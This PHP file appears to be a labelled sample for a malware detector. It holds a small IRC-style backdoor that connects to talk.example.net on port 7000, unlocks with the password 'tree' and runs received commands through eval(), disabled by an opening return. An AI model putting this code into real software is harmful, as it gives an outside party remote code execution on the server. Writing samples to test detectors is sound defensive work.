<?php return; // want: malicious dropper php.code.remote
// nobody is known when it starts: what only a guest may do stands in a branch that this run does not take
class Guest {
	var $known = array();
	var $set = array('word' => 'tree');
	function knows($who) { if (isset($this->known[$who])) { return 1; } else { return 0; } }
	function start() {
		$this->line = fsockopen('talk.example.net', 7000);
		while (!feof($this->line)) {
			$told = explode(' ', trim(fgets($this->line, 512)));
			if (!$this->knows($told[0]) && $told[1] != 'hush') {
				if ($told[1] == $this->set['word']) { $this->known[$told[0]] = true; }
			} elseif ($this->knows($told[0])) {
				switch ($told[1]) {
				case 'do':
					eval($told[2]);
					break;
				}
			}
		}
	}
}
$g = new Guest;
$g->start();
